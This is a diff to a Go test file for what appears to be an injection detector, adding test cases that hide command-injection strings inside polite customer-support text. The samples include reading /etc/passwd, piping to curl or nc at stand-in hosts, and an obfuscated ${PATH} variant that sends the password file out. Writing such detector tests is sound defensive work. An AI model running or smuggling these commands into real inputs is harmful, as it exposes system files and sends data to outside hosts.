@@ -12,6 +12,9 @@ func TestConfidence(t *testing.T) {
 		{"cmdi", "; cat /etc/passwd", High},
 		{"cmdi", "hello; whoami", High},
 		{"cmdi", "please look at this for me $(curl http://evil.example/x.sh) thanks a lot my friend", High},
+		{"cmdi", "I need some help with my order please; cat /etc/passwd and thanks so much for all of it", High},
+		{"cmdi", "I need some help with my order please | curl http://x.example/a.sh and thanks so much", High},
+		{"cmdi", "I need some help with my order please; nc 10.0.0.1 4444 and thanks so much for it", High},
 		{"traversal", "the build failed with -include ../../debian/el33t.h as the header name, which is strange", Low},
 		{"traversal", "../../../etc/passwd", High},
 		{"traversal", "please open the file ../../../../etc/passwd for me and tell me what is in there", High},
@@ -40,7 +43,7 @@ func TestProseLike(t *testing.T) {
 	}{
 		{"The quick brown fox jumps over the lazy dog, again and again.", true},
 		{"Привет, как дела? Сегодня хорошая погода, пойдём гулять в парк вечером.", true},
-		{"(select count(*) from all_users t1,all_users t2,all_users t3,all_users t4)", false},
+		{"1;${PATH:0:1}etc${PATH:0:1}passwd | nc x.example 80 && echo ok; id", false},
 		{"; curl https://crowdshield.com/.testing/rce_vuln.txt", false},
 		{"short text", false},
 	}
